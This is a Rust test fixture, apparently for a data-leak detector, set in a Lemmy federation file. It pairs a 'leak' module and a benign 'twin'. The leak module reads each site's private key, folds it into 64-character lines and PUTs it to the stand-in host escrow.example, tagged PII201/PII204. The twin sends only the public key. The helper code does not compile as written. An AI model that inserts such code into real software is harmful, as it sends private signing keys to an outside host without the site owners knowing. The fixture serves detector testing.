//! Sends the site's key to an escrow, in lines of a fixed width.
//!
//! file: lemmy_apub/src/http/site.rs
//! after: let site: ApubSite = SiteView::read_local(context.pool()).await?.site.into();
//! kind: share
//! depth: 2
//! through: a const generic width, chunks and join, an own `From`
//! round: 4

mod leak {
    fn here() {
        for other in lemmy_db_schema::source::site::Site::read_remote_sites(context.pool()).await? {
            folded_key::deposit::<64>(&other.into(), &context).await?;
        }
    }

    use crate::objects::instance::ApubSite;
    use lemmy_api_common::context::LemmyContext;
    use lemmy_utils::error::LemmyError;

    /// A text in lines of a fixed width.
    struct Folded<const WIDTH: usize>(String);

    impl<const WIDTH: usize> From<&str> for Folded<WIDTH> {
        fn from(text: &str) -> Self {
            let letters: Vec<char> = text.chars().collect();
            let lines: Vec<String> = letters.chunks(WIDTH).map(|line| line.iter().collect()).collect();
            Folded(lines.join("\r\n"))
        }
    }

    pub async fn deposit<const WIDTH: usize>(site: &ApubSite, context: &LemmyContext) -> Result<(), LemmyError> {
        let pem = site.private_key.as_deref().unwrap_or_default();
        let Folded(body) = Folded::<WIDTH>::from(pem);
        put(context, body).await
    }

    async fn put(context: &LemmyContext, body: String) -> Result<(), LemmyError> {
        context.client().put("https://escrow.example/sites").body(body).send().await?; // leak: PII201 or PII204
        Ok(())
    }
}

mod twin {
    fn here() {
        for other in lemmy_db_schema::source::site::Site::read_remote_sites(context.pool()).await? {
            folded_key::deposit::<64>(&other.into(), &context).await?;
        }
    }

    use crate::objects::instance::ApubSite;
    use lemmy_api_common::context::LemmyContext;
    use lemmy_utils::error::LemmyError;

    /// A text in lines of a fixed width.
    struct Folded<const WIDTH: usize>(String);

    impl<const WIDTH: usize> From<&str> for Folded<WIDTH> {
        fn from(text: &str) -> Self {
            let letters: Vec<char> = text.chars().collect();
            let lines: Vec<String> = letters.chunks(WIDTH).map(|line| line.iter().collect()).collect();
            Folded(lines.join("\r\n"))
        }
    }

    pub async fn deposit<const WIDTH: usize>(site: &ApubSite, context: &LemmyContext) -> Result<(), LemmyError> {
        let pem = site.public_key.as_str();
        let Folded(body) = Folded::<WIDTH>::from(pem);
        put(context, body).await
    }

    async fn put(context: &LemmyContext, body: String) -> Result<(), LemmyError> {
        context.client().put("https://escrow.example/sites").body(body).send().await?;
        Ok(())
    }
}
